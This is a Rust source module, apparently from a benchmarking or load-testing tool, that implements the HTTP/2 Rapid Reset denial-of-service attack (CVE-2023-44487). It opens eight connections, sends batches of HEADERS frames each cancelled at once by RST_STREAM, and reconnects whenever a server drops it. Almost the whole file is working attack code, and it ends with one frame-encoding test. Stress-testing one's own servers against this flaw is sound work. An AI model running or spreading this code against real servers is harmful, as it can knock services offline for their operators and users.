//! HTTP/2 requests that are taken back in the same breath (CVE-2023-44487): HEADERS and RST_STREAM, as fast as it goes.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
};

use anyhow::{Result, bail};

use super::budget::Budget;
use crate::load::http1;

const CONNECTIONS: usize = 8;
/// How many requests go in one breath.
const BATCH: u32 = 50;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The type of a frame, its flags, and what it needs here.
const HEADERS: (u8, u8) = (1, 0x5);
const RST_STREAM: (u8, u8) = (3, 0);
const SETTINGS: (u8, u8) = (4, 0);
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `GET http /` from the static table, and `:authority: bench` (RFC 7541).
const BLOCK: &[u8] = b"\x82\x86\x84\x41\x05bench";

struct Attacker {
    socket: TcpStream,
    /// The next stream.
    stream: u32,
}

/// How many streams it opened.
pub(super) fn run(to: SocketAddr, budget: &mut Budget<'_>) -> Result<u64> {
    let mut attackers: Vec<Option<Attacker>> = (0..CONNECTIONS).map(|_| None).collect();
    let mut opened = 0;
    loop {
        for attacker in &mut attackers {
            if !budget.goes_on()? {
                return Ok(opened);
            }
            if attacker.is_none() {
                *attacker = Attacker::connect(to).ok();
            }
            match attacker.as_mut().map(Attacker::breathe) {
                Some(Ok(())) => opened += u64::from(BATCH),
                // Thrown out; it comes again.
                _ => *attacker = None,
            }
        }
    }
}

impl Attacker {
    fn connect(to: SocketAddr) -> Result<Self> {
        let mut socket = http1::connect(None, to)?;
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, &[]);
        socket.write_all(&bytes)?;
        Ok(Self { socket, stream: 1 })
    }

    fn breathe(&mut self) -> Result<()> {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            frame(&mut bytes, HEADERS, self.stream, BLOCK);
            frame(&mut bytes, RST_STREAM, self.stream, &CANCEL);
            self.stream += 2;
        }
        self.socket.write_all(&bytes)?;
        // What is answered has to be taken off, or the other side would stop reading.
        self.socket.set_nonblocking(true)?;
        let mut answer = [0; 16 * 1024];
        let read = loop {
            match self.socket.read(&mut answer) {
                Ok(0) => bail!("thrown out"),
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => break Ok(()),
                Err(error) => break Err(error),
            }
        };
        self.socket.set_nonblocking(false)?;
        Ok(read?)
    }
}

/// Writes a frame: RFC 9113 4.1.
fn frame(bytes: &mut Vec<u8>, (kind, flags): (u8, u8), stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_length_kind_flags_and_stream_before_its_payload() {
        let mut bytes = Vec::new();
        frame(&mut bytes, RST_STREAM, 0x0102_0305, &CANCEL);
        assert_eq!(bytes, [0, 0, 4, 3, 0, 1, 2, 3, 5, 0, 0, 0, 8]);
    }
}
